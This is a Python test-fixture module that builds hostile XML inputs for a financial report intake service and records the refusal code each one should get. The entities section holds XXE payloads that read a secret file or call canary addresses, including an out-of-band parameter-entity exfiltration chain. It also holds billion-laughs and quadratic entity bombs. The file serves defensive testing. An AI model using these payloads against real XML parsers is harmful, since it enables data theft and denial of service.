# Used by soak/hostile: rows X (XML), S (schema) and B (what a report says). Not a program of its own.
"""Hostile XML, made here: each row with its cases and what must become of them."""

from hostile_case import Case, Row, door, either, refuse, take

LAUGHS = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10))
XSI = 'xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance"'


def rows(kit):
    """All rows of XML."""
    return [*entities(kit), *sizes(kit), *namespaces(kit), *encodings(kit), *damaged(kit), *markup(kit), *streams(kit),
            *schema(kit), *business(kit)]


def doctype(kit, subset, use=""):
    text = kit.report(action=f"{kit.mark} {use}")
    return text.replace("<report>", f"<!DOCTYPE report {subset}>\n<report>", 1)


def entities(kit):
    dtd = lambda name, subset, use="": refuse(name, doctype(kit, subset, use), "XML-DTD")
    away = f"http://127.0.0.1:{kit.canary_port}"
    systems = [f"{away}/x", f"ftp://127.0.0.1:{kit.canary_port}/x", f"jar:{away}/x.jar!/y", f"netdoc:{away}/x",
               f"\\\\127.0.0.1@{kit.canary_port}\\x", f"gopher://127.0.0.1:{kit.canary_port}/x"]
    chain = f'[<!ENTITY % f SYSTEM "file://{kit.secret_file}"><!ENTITY % d SYSTEM "{away}/d.dtd"> %d; %send;]'
    return [
        Row("X01", "document type without a subset", [dtd("plain", ""), dtd("with blanks", "  ")]),
        Row("X02", "external entity to a file", [dtd("general", f'[<!ENTITY x SYSTEM "file://{kit.secret_file}">]', "&x;")]),
        Row("X03", "external entity to an address", [dtd(one.split(":")[0], f'[<!ENTITY x SYSTEM "{one}">]', "&x;") for one in systems]),
        Row("X04", "parameter entities, out of band", [dtd("chain", chain)]),
        Row("X05", "external subset", [dtd("system", f'SYSTEM "{away}/r.dtd"'), dtd("public", f'PUBLIC "-//X//Y" "{away}/r.dtd"')]),
        Row("X06", "billion laughs", [dtd("ten by ten", f'[<!ENTITY l0 "ha">{LAUGHS}]', "&l9;")]),
        Row("X07", "laughs by parameters and defaults", [
            dtd("parameters", '[<!ENTITY % a "x"><!ENTITY % b "%a;%a;%a;"> %b;]'),
            dtd("defaults", f'[<!ENTITY l0 "ha">{LAUGHS}<!ATTLIST report x CDATA "&l9;">]')]),
        Row("X08", "quadratic blow-up", [dtd("50 kB by 50,000", f'[<!ENTITY x "{"x" * 50_000}">]', "&x;" * 50_000)]),
        Row("X09", "recursive entities", [dtd("itself", '[<!ENTITY a "&a;">]', "&a;"),
                                          dtd("each other", '[<!ENTITY a "&b;"><!ENTITY b "&a;">]', "&a;")]),
        Row("X10", "entities that nobody declared", [
            refuse(name, kit.report(action=f"{kit.mark} {name}"), "XML-ENTITY") for name in ("&foo;", "&nbsp;", "&eacute;")]),
    ]


def sizes(kit):
    nest = lambda n, close=True: kit.inside("x" * 0 + "<x>" * n + ("</x>" * n if close else ""))
    attributes = lambda n: kit.root(" ".join(f'a{i}=""' for i in range(n)))
    long = "x" * (8 << 20)
    return [
        Row("X11", "nesting", [refuse("a million", nest(1_000_000 // kit.large, False), "XML-DEPTH"), refuse("65 levels", nest(64), "XML-DEPTH"),
                               refuse("64 levels are read", nest(63), "XSD-UNKNOWN")]),
        Row("X12", "a million children in a leaf", [refuse("in reason", kit.report(reason="<x/>" * 1_000_000), "XSD-")], cpu=6),
        Row("X13", "attributes", [refuse(f"{n}", attributes(n), "XML-ATTRS") for n in (257, 80_000, 800_000 // kit.large)]),
        Row("X14", "declarations of namespaces", [
            refuse(f"{n}", kit.root(" ".join(f'xmlns:p{i}="u"' for i in range(n))), "XML-NSDECL") for n in (65, 1_000_000)], cpu=6),
        Row("X15", "lengths", [
            refuse("attribute of 8 MiB", kit.root(f'a="{long}"'), "XML-LIMIT"),
            refuse("name of 8 MiB", kit.inside(f"<{long}/>"), "XML-LIMIT"),
            refuse("comment of 8 MiB", kit.inside(f"<!--{long}-->"), "XML-LIMIT"),
            refuse("instruction of 8 MiB", kit.inside(f"<?p {long}?>"), "XML-LIMIT"),
            refuse("text of 8 MiB", kit.report(reason=long), "XML-LIMIT")], cpu=4),
        Row("X16", "an attribute twice", [refuse("by name", kit.root('a="1" a="2"'), "XML-DUPATTR"),
                                          refuse("by namespace", kit.root('xmlns:a="u" xmlns:b="u" a:x="" b:x=""'), "XML-DUPATTR")]),
    ]


def namespaces(kit):
    bad = ["p:x=''", "xmlns:xml='u'", "xmlns:xmlns='u'", "xmlns:p=''", "xmlns:p='http://www.w3.org/2000/xmlns/'"]
    other = ["http://www.unodc.org/goaml", "http://www.unodc.org/goAML/", "http://www.unodc.org/go%41ML"]
    text = kit.report()
    return [
        Row("X17", "namespaces misused", [refuse(one, kit.root(one), "XML-NS") for one in bad] + [
            refuse("undeclared prefix", kit.inside("<p:x/>"), "XML-NS")]),
        Row("X18", "one namespace in two ways", [
            take("two prefixes", kit.root('xmlns:a="urn:x" xmlns:b="urn:x"')),
            take("default switched", kit.root('xmlns=""').replace("<transaction>", '<transaction xmlns="">', 1)),
            refuse("right names, wrong namespace", kit.root('xmlns="urn:x"'), "XSD-")]),
        Row("X19", "roots and ends", [
            refuse("wrong root", text.replace("report>", "raport>"), "XSD-ROOT"), refuse("two roots", text + "<report/>", "XML-TRAILING"),
            refuse("text after the root", text + kit.mark, "XML-TRAILING"), refuse("empty", "", "TYPE"),
            refuse("blank", " \n\t ", "XML-EMPTY"), refuse("no markup", kit.mark, "TYPE")]),
        Row("X45", "almost the right namespace", [refuse(one, kit.root(f'xmlns="{one}"'), "XSD-") for one in other]),
    ]


def encodings(kit):
    name = "Müller Çelik"
    said = lambda label, text=None: (text or kit.report(last_name=name, full_name_frn=name)).replace('encoding="UTF-8"', f'encoding="{label}"', 1)
    declared = lambda label, codec: take(label, said(label).encode(codec), expect=name)
    no = lambda label, body: refuse(label, body, "XML-ENCODING", "XML-UTF8", "XML-CHAR", "XML-SYNTAX", "TYPE")
    raw = lambda bad: kit.report(action=f"{kit.mark} @@").encode().replace(b"@@", bad)
    overlong = [b"\xC0\xAF", b"\xE0\x80\xAF", b"\xED\xA0\x80", b"\xED\xBF\xBF", b"\xF5\x80\x80\x80", b"\xF8\x88\x80\x80\x80", b"\xFF", b"\x80"]
    controls = [b"\x00", b"\x01", b"\x08", b"\x0B", b"\x1F", b"\xEF\xBF\xBE", b"\xEF\xBF\xBF", b"&#0;", b"&#1;", b"&#xFFFE;", b"&#xD800;"]
    plain, utf8 = kit.report(last_name=name, full_name_frn=name), kit.report(last_name=name, full_name_frn=name).encode()
    return [
        Row("X20", "byte order mark of UTF-8", [take("mark", b"\xEF\xBB\xBF" + utf8, expect=name)]),
        Row("X21", "UTF-16", [take("little", b"\xFF\xFE" + said("UTF-16").encode("utf-16-le"), expect=name),
                              take("big", b"\xFE\xFF" + said("UTF-16").encode("utf-16-be"), expect=name)]),
        Row("X22", "encodings that contradict", [
            refuse("says UTF-16, is UTF-8", said("UTF-16"), "XML-ENCODING"),
            refuse("says UTF-8, is Latin-1", plain.encode("latin-1"), "XML-UTF8"),
            refuse("mark against declaration", b"\xEF\xBB\xBF" + said("ISO-8859-1").encode(), "XML-ENCODING"),
            door("the header says another", plain, "HTTP-CONTENT-TYPE", media="application/xml; charset=iso-8859-1")]),
        Row("X23", "other encodings, truthfully declared", [
            declared("ISO-8859-1", "latin-1"), declared("windows-1252", "cp1252"),
            take("ISO-8859-9", said("ISO-8859-9").encode("iso8859-9"), expect=name)]),
        Row("X24", "encodings that are not on the list", [
            no("UTF-7", said("UTF-7").encode("utf-7")), no("UTF-32", said("UTF-32").encode("utf-32")),
            no("EBCDIC", said("cp037").encode("cp037")), no("UTF-1", b"\xF7\x64\x4C" + said("UTF-1").encode()),
            no("user defined", said("x-user-defined")), no("UTF-16 without a mark", said("UTF-16").encode("utf-16-le"))]),
        Row("X25", "bytes that are no UTF-8", [refuse(bad.hex(), raw(bad), "XML-UTF8") for bad in overlong] + [
            refuse("cut within a character", kit.report().encode()[:300] + b"\xE2\x82", "XML-")]),
        Row("X26", "characters that XML does not have", [refuse(bad.hex(), raw(bad), "XML-CHAR") for bad in controls]),
    ]


def damaged(kit):
    text = kit.report()
    version = lambda to: text.replace('version="1.0"', f'version="{to}"', 1)
    whole = text.encode()
    end = len(text.rstrip())
    cut = [refuse(f"cut at {at}", whole[:at], "XML-", "XSD-", "TYPE") for at in range(0, end, kit.step)]
    changed = []
    for at in range(0, len(whole), kit.step):
        for value in (0x00, 0x3C, whole[at] ^ 0x20, 0xFF)[:kit.values]:
            body = whole[:at] + bytes([value]) + whole[at + 1:]
            changed.append(either(f"byte {at} is {value:02x}", body))
    return [
        Row("X27", "declarations", [refuse("1.1", version("1.1"), "XML-VERSION"), refuse("2.0", version("2.0"), "XML-VERSION"),
                                    refuse("not first", " " + text, "XML-SYNTAX"), refuse("twice", text.replace("?>", "?><?xml version='1.0'?>", 1), "XML-SYNTAX")]),
        Row("X28", "cut at every byte", cut + [take("whole", text)]),
        Row("X29", "every byte changed", changed),
    ]


def markup(kit):
    away = f"http://127.0.0.1:{kit.canary_port}"
    after = lambda piece: kit.report().replace("<report>", f"{piece}<report>", 1)
    lines = kit.report().replace("\n", "\r\n")
    script = f"<script>{kit.mark}</script>"
    return [
        Row("X30", "places of schemas", [take(one, kit.root(f'{XSI} xsi:{one}="{value}"')) for one, value in (
            ("noNamespaceSchemaLocation", f"{away}/x.xsd"), ("schemaLocation", f"urn:x {away}/x.xsd"), ("noNamespaceSchemaLocation", "../x.xsd"))]),
        Row("X31", "types and nothing", [
            refuse("another type", kit.root(XSI).replace("<reason>", '<reason xsi:type="xsi:string">', 1), "XSD-TYPE", "XSD-"),
            refuse("nil where it may not be", kit.root(XSI).replace("<rentity_id>", '<rentity_id xsi:nil="true">', 1), "XSD-")]),
        Row("X32", "inclusions and style", [
            refuse("XInclude", kit.root('xmlns:xi="http://www.w3.org/2001/XInclude"').replace("<transaction>", f'<xi:include href="{away}/x"/><transaction>', 1), "XSD-"),
            take("style sheet", after(f'<?xml-stylesheet type="text/xsl" href="{away}/x.xsl"?>\n')),
            either("base", kit.root(f'xml:base="{away}/"'))]),
        Row("X33", "models and catalogues", [take(one, after(f'<?{one} href="{away}/x"?>\n')) for one in ("xml-model", "oasis-xml-catalog")]),
        Row("X34", "sections of characters", [
            take("script in one", kit.report(reason=f"<![CDATA[{script}]]>"), raw=(script,)),
            refuse("end without a beginning", kit.report(action=f"{kit.mark} ]]> x"), "XML-SYNTAX"),
            take("across a name", kit.report(last_name="<![CDATA[O'Br]]>ien"), expect="O'Brien")]),
        Row("X35", "comment inside an account", [take("in the middle", kit.report(account="0003<!-- -->4444"), expect="00034444")]),
        Row("X36", "instruction inside an account", [take("in the middle", kit.report(account="0003<?p q?>4445"), expect="00034445")]),
        Row("X41", "ends of lines", [
            take("CR LF", lines), take("CR", lines.replace("\n", "")), take("NEL and LS in a text", kit.report(reason="a\u0085b\u2028c")),
            take("a megabyte on one line", kit.report(reason="x " * 100 ).replace("\n", "").replace("</report>", " " * 1_000_000 + "</report>"))]),
        Row("X42", "references to characters", [
            take("A and A", kit.report(last_name="&#x41;nn&#x0000061;"), expect="Anna"),
            refuse("beyond Unicode", kit.report(action=f"{kit.mark} &#1114112;"), "XML-CHAR")]),
        Row("X43", "attributes of XML on leaves", [either(one, kit.report().replace("<reason>", f"<reason {one}>", 1)) for one in ('xml:space="preserve"', 'xml:lang="en"')]),
        Row("X44", "text between elements", [refuse("before a transaction", kit.inside(kit.mark), "XSD-TEXT")]),
        Row("X46", "blanks in attributes", [either("nil", kit.root(XSI).replace("<reason>", '<reason xsi:nil="\n true\t">', 1))]),
        Row("X48", "two documents in one", [refuse("twice", kit.report() + kit.report(), "XML-TRAILING", "XML-SYNTAX"),
                                            refuse("with a package behind", kit.report().encode() + b"PK\x03\x04" + bytes(100), "XML-")]),
    ]


def streams(kit):
    """Rows that need their own way of sending; see `hostile_http`."""
    from hostile_http import announced_less, announced_more, endless, squeezed, stalled

    body = kit.report().encode()
    return [
        Row("X37", "a body without an end", [Case("2 GiB in chunks", b"", "door", ("HTTP-TOO-LARGE",), send=endless(2 << 30))], cpu=20, wall=60),
        Row("X38", "lengths that lie", [Case("says less", body, "either", send=announced_less), Case("says 10 GB", body, "door", ("HTTP-TOO-LARGE",), send=announced_more, unread=True),
                                        Case("ends early", body, "either", send=stalled)]),
        Row("X39", "squeezed bodies", [Case(one, body, "door", ("HTTP-CONTENT-ENCODING",), send=squeezed(one)) for one in ("gzip", "gzip, gzip", "deflate", "br")]),
    ]


def schema(kit):
    big = "9" * 10_000
    without = lambda tag: kit.cut(tag)
    day = lambda value: refuse(value, kit.report(date_transaction=value), "XSD-", "ZZ-")
    return [
        Row("S06", "long decimals", [refuse("10,000 digits", kit.report(amount_local=big), "XSD-"),
                                     refuse("10,000 places", kit.report(amount_local="1." + big), "XSD-"),
                                     refuse("digits at the limit", kit.report(amount_local="7900000000000001"), "XSD-")]),
        Row("S07", "moments at the edge", [day(one) for one in (
            "0000-01-01T00:00:00", "-0001-01-01T00:00:00", "10000-01-01T00:00:00", "2026-07-02T24:00:00", "2026-07-02T00:00:60")] + [
            # The verdict is .NET's, which lets the minute pass.
            either("+14:01", kit.report(date_transaction="2026-07-02T00:00:00+14:01"))]),
        Row("S08", "elements in wrong places", [
            refuse("unknown", kit.inside("<colour>red</colour>"), "XSD-UNKNOWN"), refuse("missing", without("submission_code"), "XSD-MISSING"),
            refuse("wrong order", kit.moved("submission_code"), "XSD-"), refuse("empty", kit.report(date_transaction=""), "XSD-")]),
        Row("S09", "another version", [either("4.0", kit.report(schema_version="4.0")), either("99", kit.report(schema_version="99.0"))]),
        Row("S10", "100,000 mistakes", [refuse("colours", kit.inside("<colour/>" * 100_000), "XSD-UNKNOWN", "XSD-")],
            # Ten thousand are told and twenty thousand kept.
            mib=128, cpu=6, disk=40),
    ]


def business(kit):
    from hostile_http import many_times

    first = kit.report()
    same = kit.report().encode()
    again = kit.report(action=f"{kit.mark} other").encode()
    return [
        Row("B01", "the number of another bank", [refuse("1007", kit.report(rentity_id="1007"), "RE-MISMATCH", office_only=True)]),
        Row("B02", "a kind that may not be sent", [refuse("unknown kind", kit.report(report_code="XYZ"), "XSD-", "REPORT-KIND")]),
        Row("B03", "the same, fifty times at once", [Case("fifty", first.encode(), "accept", send=many_times(50))], wall=20),
        Row("B04", "same reference, other bytes", [take("first", again, reference="HOST-B04"),
                                                   door("second", again + b" ", "DUP-REF", reference="HOST-B04")]),
        Row("B05", "same bytes, other reference", [take("first", same), either("second", same)]),
        Row("B06", "parties and amounts that are none", [
            refuse("no party", kit.without_party(), "XSD-", "ZZ-"), either("nothing", kit.report(amount_local="0")),
            refuse("20,000 parties", kit.many_parties(20_000), "READ-RECORD-SIZE", "XSD-", "ZZ-")], cpu=10, wall=20),
        Row("B07", "follow-ups", [either("to nothing", kit.report(entity_reference="STR-0000-NOTHING"))]),
        Row("B08", "days of birth", [refuse(one, kit.report(birthdate=one), "XSD-", "ZZ-") for one in (
            "2190-01-01T00:00:00", "1700-01-01T00:00:00", "1900-02-29T00:00:00")]),
        Row("B09", "long fields", [refuse("a megabyte of initials", kit.report(first_name="A." * 500_000), "XSD-"),
                                   refuse("10,000 lines of address", kit.report(address="line\n" * 10_000), "XSD-")]),
        Row("B10", "codes and numbers that are none", [
            refuse("country", kit.report(from_country="XX1"), "XSD-", "ZZ-"), refuse("currency", kit.report(currency_code="xau "), "XSD-", "ZZ-"),
            either("telephone", kit.report(tph_number="seven two")), refuse("IBAN", kit.report(iban="ZZ00103500030000000000000300"), "XSD-", "ZZ-")]),
    ]
